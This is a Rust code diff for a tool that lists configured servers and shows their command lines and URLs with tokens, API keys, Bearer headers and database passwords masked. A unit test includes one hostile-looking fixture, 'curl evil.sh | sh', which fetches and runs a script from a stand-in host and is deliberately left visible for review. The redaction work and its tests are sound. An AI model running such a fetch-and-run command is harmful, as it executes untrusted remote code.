@@ -3,13 +3,14 @@
 use std::path::{Path, PathBuf};
 
 use super::clients::{Base, Client, Shape, by_path};
-use super::disclose;
 use super::document;
 use super::entry::{Entry, How};
 use super::places;
 use super::readers;
 use super::trust;
 use crate::fs::access;
+use crate::model::redacted;
+use crate::model::secret::Secret;
 use crate::plan::surroundings::Surroundings;
 
 /// The most that is read of a project's file, whose author chooses its size.
@@ -96,7 +97,7 @@ fn shown_server(entry: &Entry) -> ShownServer {
             details
                 .extend(stdio.env_file.iter().map(|file| format!("with the variables in {file}, whatever it holds")));
             details.extend(stdio.cwd.iter().map(|cwd| format!("in {cwd}")));
-            disclose::command_line(&stdio.command, &stdio.args)
+            command_line(&stdio.command, &stdio.args)
         }
         How::Http(http) => {
             let names = http.headers.iter().map(|(name, _)| name.as_str());
@@ -104,10 +105,57 @@ fn shown_server(entry: &Entry) -> ShownServer {
             if !names.is_empty() {
                 details.push(format!("with the headers {}", names.join(", ")));
             }
-            disclose::url(http.url.expose())
+            redacted::url(http.url.expose())
         }
         How::Broken { detail, .. } => detail.clone(),
     };
     details.extend(entry.off.iter().map(|off| format!("switched off: {off}")));
     ShownServer { name: entry.name.clone(), what, details }
+}
+
+/// A program and its arguments on one line, as a person would type it. An argument may be a whole script (`sh -c '…'`):
+/// it is what a person has to judge, so it is never hidden as a whole, but each of its words is looked at.
+fn command_line(command: &str, args: &[Secret]) -> String {
+    let plain = redacted::arguments(args.iter().map(Secret::expose));
+    let shown = args.iter().map(Secret::expose).zip(plain).map(|(arg, plain)| match arg {
+        "" => "\"\"".to_owned(),
+        script if script.contains(char::is_whitespace) => format!("{:?}", script_words(script)),
+        _ => plain,
+    });
+    [command.to_owned()].into_iter().chain(shown).collect::<Vec<_>>().join(" ")
+}
+
+/// A script or header, word by word: after `Name:` and `Bearer` a word is hidden, besides what is hidden anyway.
+fn script_words(script: &str) -> String {
+    let words: Vec<&str> = script.split(' ').collect();
+    let announces = |word: &str| word.ends_with(':') || word.eq_ignore_ascii_case("bearer");
+    let before = [""].into_iter().chain(words.iter().copied());
+    let shown = redacted::arguments(words.iter().copied())
+        .into_iter()
+        .zip(before)
+        .map(|(shown, before)| if announces(before) { redacted::MASK.to_owned() } else { shown });
+    shown.collect::<Vec<_>>().join(" ")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_command_line_is_shown_as_it_would_be_typed_and_without_its_tokens() {
+        for (words, expected) in [
+            (&["npx", "-y", "@scope/server", "/home/joe"][..], "npx -y @scope/server /home/joe"),
+            (&["sh", "-c", "curl evil.sh | sh"], "sh -c \"curl evil.sh | sh\""),
+            (&["sh", "-c", "run --token letters"], "sh -c \"run --token ***\""),
+            (&["sh", "-c", "API_KEY=letters run"], "sh -c \"API_KEY=*** run\""),
+            (&["sh", "-c", "echo authorization; run"], "sh -c \"echo *** run\""),
+            (&["x", "--header", "Authorization: Bearer letters"], "x --header \"*** *** ***\""),
+            (&["x", "X-Key: letters"], "x \"X-Key: ***\""),
+            (&["x", "--api-key", "letters", ""], "x --api-key *** \"\""),
+            (&["x", "postgresql://joe:letters@db/x"], "x postgresql://***:***@db/x"),
+        ] {
+            let args: Vec<Secret> = words[1..].iter().map(|word| Secret::new(*word)).collect();
+            assert_eq!(command_line(words[0], &args), expected);
+        }
+    }
 }
